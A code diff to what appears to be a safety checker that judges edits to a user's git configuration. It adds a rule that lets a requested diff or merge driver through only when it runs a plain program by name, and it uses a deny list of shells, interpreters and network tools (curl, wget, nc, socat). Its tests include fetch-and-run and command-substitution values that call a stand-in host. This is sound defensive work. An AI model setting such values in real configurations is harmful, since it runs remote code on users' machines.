@@ -46,6 +46,28 @@ pub(crate) fn check(_ctx: &WallContext, r: &RepoEffect) -> Option<Finding> {
 
 /// The user's own git configuration (`~/.gitconfig`) set to run programs or redirect remotes:
 /// such a key there reaches every repository. Asked about when the request names the file.
+/// Whether the request asks for the kind of driver `key` sets (`diff.po.textconv`: "diff
+/// drivers"; `merge.ours.driver`: "a merge driver").
+fn asks_driver(ctx: &WallContext, key: &str) -> bool {
+    let section = key.split('.').next().unwrap_or("").to_ascii_lowercase();
+    matches!(section.as_str(), "diff" | "merge") && ctx.scope.says_word(&section)
+}
+
+/// A command line that runs one program by its bare name with plain arguments: no path, no
+/// shell, interpreter or downloader, nothing the shell would read (`;`, `|`, `$`, quotes...).
+fn plain_program(value: &str) -> bool {
+    const RUNS_ANYTHING: &[&str] = &[
+        "sh", "bash", "zsh", "dash", "ksh", "fish", "env", "eval", "exec", "python", "python3", "perl",
+        "ruby", "node", "php", "lua", "curl", "wget", "nc", "ncat", "socat", "ssh", "sudo", "doas", "xargs",
+    ];
+    let mut words = value.split_whitespace();
+    let Some(program) = words.next() else { return false };
+    !value.contains([';', '|', '&', '$', '`', '<', '>', '(', ')', '"', '\'', '\\', '\n'])
+        && program.chars().all(|c| c.is_ascii_alphanumeric() || "._-+".contains(c))
+        && !RUNS_ANYTHING.contains(&program)
+        && words.all(|w| !w.contains('/') || w.starts_with('-'))
+}
+
 pub(crate) fn check_user_config(ctx: &WallContext) -> Vec<Finding> {
     let mut findings = Vec::new();
     for f in ctx.effects.files.iter().filter(|f| {
@@ -55,7 +77,18 @@ pub(crate) fn check_user_config(ctx: &WallContext) -> Vec<Finding> {
     }) {
         let empty = std::env::temp_dir().join("foresee-no-such-config");
         let before = f.before_content.as_deref().unwrap_or(&empty);
-        let keys = crate::git::dangerous_config_changes(before, f.after_content.as_deref().unwrap_or(&empty));
+        let after = f.after_content.as_deref().unwrap_or(&empty);
+        let mut keys = crate::git::dangerous_config_changes(before, after);
+        // A diff or merge driver the request asks for ("diff drivers for .po files") that runs
+        // a plain program by name (`textconv = msgcat --sort-output`) is the asked setting.
+        if keys.iter().any(|k| asks_driver(ctx, k)) {
+            let entries = crate::git::config_entries(after).unwrap_or_default();
+            keys.retain(|k| {
+                let value =
+                    entries.iter().rev().find(|(ek, _)| ek.eq_ignore_ascii_case(k)).map(|(_, v)| v.as_str());
+                !(asks_driver(ctx, k) && value.is_some_and(plain_program))
+            });
+        }
         if !keys.is_empty() {
             findings.push(Finding {
                 rule: RULE.id,
@@ -106,5 +139,15 @@ mod tests {
         assert_eq!(judged(None, pager), [("git.config", Decision::Block)]);
         assert_eq!(judged(Some("set the pager in .gitconfig"), pager), [("git.config", Decision::Ask)]);
         assert!(judged(None, "[user]\n\tname = Ann Lee\n").is_empty());
+    }
+
+    #[test]
+    fn a_plain_program_by_name_is_a_driver_and_a_shell_or_a_path_is_not() {
+        assert!(super::plain_program("msgcat --no-location --sort-output"));
+        assert!(super::plain_program("exiftool"));
+        assert!(!super::plain_program("sh -c 'curl x.example | sh'"));
+        assert!(!super::plain_program("./tools/conv.sh"));
+        assert!(!super::plain_program("msgcat $(curl x.example)"));
+        assert!(!super::plain_program("cat /tmp/x/payload"));
     }
 }
